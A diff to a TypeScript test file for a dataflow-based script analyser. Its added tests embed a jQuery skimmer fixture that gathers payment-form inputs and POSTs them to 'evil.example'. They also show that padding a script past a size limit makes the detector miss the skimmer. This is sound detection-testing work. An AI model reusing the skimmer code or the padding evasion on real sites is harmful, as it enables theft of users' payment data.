@@ -5,6 +5,7 @@ import { collectFacts } from '../../src/analyze/dataflow/facts.ts';
 import { ElementOracle, findSources } from '../../src/analyze/dataflow/sources.ts';
 import { propagate } from '../../src/analyze/dataflow/flow.ts';
 import { AnchorIndex } from '../../src/analyze/relevance.ts';
+import { inspectSource, WALK_WHOLE_BELOW } from '../../src/analyze/pipeline.ts';
 
 /** A long function body with no anchor at all: arithmetic on its parameter. */
 const utility = (name: string): string => {
@@ -60,5 +61,28 @@ describe('skipping function bodies without anchors', () => {
     const { flows } = analyse(code);
     assert.equal(flows.length, 1);
     assert.equal(flows[0]?.sink.host, 'evil.example');
+  });
+});
+
+describe('small scripts are walked whole', () => {
+  // A handler whose own text names nothing telling: it only calls the local functions that read and send.
+  const handler = (padding: string): string => `
+    function collect() { var m = {}; $("#pay").find("input").each(function () { m[this.name] = this.value; }); return m; }
+    function ship(r) { return fetch("https://evil.example/e", { method: "POST", body: JSON.stringify(r) }); }
+    var onStart = function () {
+      var record = { pay: collect(), when: Date.now(), ${Array.from({ length: 60 }, (_, i) => `k${i}: ${i}`).join(', ')} };
+      if (Object.keys(record.pay).length) ship(record);
+    };
+    $(document.body).on("processStart", onStart);${padding}`;
+
+  test('a short script connects the fields to the request through an anchor-less handler', () => {
+    const result = inspectSource(handler(''));
+    assert.ok(result.findings.some((finding) => finding.detector === 'form-data-exfiltration' && finding.flow?.sink.host === 'evil.example'));
+  });
+
+  test('in a script over the size limit the same handler is skipped (its text spells no anchor)', () => {
+    const padding = `\n${utility('pad')}`.repeat(Math.ceil(WALK_WHOLE_BELOW / utility('pad').length) + 1);
+    const result = inspectSource(handler(padding));
+    assert.ok(!result.findings.some((finding) => finding.detector === 'form-data-exfiltration'));
   });
 });
